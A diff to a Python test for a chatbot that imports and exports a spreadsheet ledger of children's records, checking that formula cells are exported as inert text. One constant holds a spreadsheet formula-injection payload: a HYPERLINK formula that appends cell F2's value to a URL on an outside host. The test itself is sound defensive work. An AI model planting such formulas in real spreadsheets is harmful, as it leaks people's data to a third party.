@@ -23,7 +23,7 @@ from sandbox.harness import Sandbox
 from sandbox.people import SimPerson
 from settings import Settings
 from storage.models import Child
-from tests.conftest import register, sql, watch_errors
+from tests.conftest import exported_ledger, register, sql, watch_errors
 from tests.test_command_line import bot, sqlite
 
 HYPERLINK = '=HYPERLINK("http://e.cn/?d="&F2,"详情")'
@@ -85,13 +85,12 @@ async def test_formula_cells_are_reported_then_exported_as_text(
     assert "导入完成：新增 11 名" in person.last.text
 
     await person.send("/export")
-    exported = person.last.document
-    assert exported is not None
-    assert formula_cells(exported["content"]) == 0
-    sheet = openpyxl.load_workbook(io.BytesIO(exported["content"])).worksheets[0]
+    exported = exported_ledger(person)
+    assert formula_cells(exported) == 0
+    sheet = openpyxl.load_workbook(io.BytesIO(exported)).worksheets[0]
     schools = [c.value for c in sheet[get_column_letter(LEDGER_COLUMNS.index("学校") + 1)]]
     assert schools.count(HYPERLINK) == 10  # the text itself, kept
-    await person.send_document("export.xlsx", exported["content"])
+    await person.send_document("export.xlsx", exported)
     assert "新增 0 名，更新 0 名，无变化 11 名，拒绝 0 行" in person.last.text
 
     path = tmp_path / "out.xlsx"  # the command line writes the same
